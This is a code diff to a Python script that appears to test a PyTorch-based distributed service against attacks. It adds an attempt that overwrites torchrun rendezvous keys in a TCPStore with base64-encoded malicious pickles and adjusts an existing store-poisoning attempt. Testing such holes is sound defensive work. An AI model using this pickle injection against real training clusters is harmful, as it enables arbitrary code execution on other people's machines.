@@ -14,6 +14,7 @@ import struct
 import sys
 import threading
 import time
+from base64 import b64encode
 from collections.abc import Callable
 from datetime import timedelta
 
@@ -78,9 +79,17 @@ class Harmful:
 def write_into_store(port: int) -> None:
     store = TCPStore("127.0.0.1", port, 2, timeout=timedelta(seconds=2), wait_for_workers=False)
     harm = pickle.dumps(Harmful())
-    for key in ("lifeline", "heard", "hello/1", "round-1", "handed-1/0", "door 0", "door 0: nobody"):
+    for key in ("lifeline", "heard", "hello/1", "round-1", "handed-1/0", "door"):
         store.set(key, harm)
     store.set("handed-1", "1")
+
+
+def write_into_rendezvous(port: int) -> None:
+    """Write a pickle where torchrun's rendezvous c10d keeps its state, which it reads every few seconds."""
+    store = TCPStore("127.0.0.1", port, 2, timeout=timedelta(seconds=2), wait_for_workers=False)
+    named = [key for key in store.list_keys() if key.startswith("torch.rendezvous.")]
+    for key in named or ["torch.rendezvous.none"]:
+        store.set(key, b64encode(pickle.dumps(Harmful())))
 
 
 ATTEMPTS = {
@@ -94,6 +103,7 @@ ATTEMPTS = {
     "comes as a crowd": crowd,
     "poses as a rank": pose,
     "writes into the store": write_into_store,
+    "writes into the rendezvous": write_into_rendezvous,
 }
 
 
@@ -113,5 +123,5 @@ if __name__ == "__main__":
         for each in tries:
             each.start()
         for each in tries:
-            each.join(2 * SECONDS)
+            each.join(5 * SECONDS)
     os._exit(0)  # torch's store may still wait for an answer
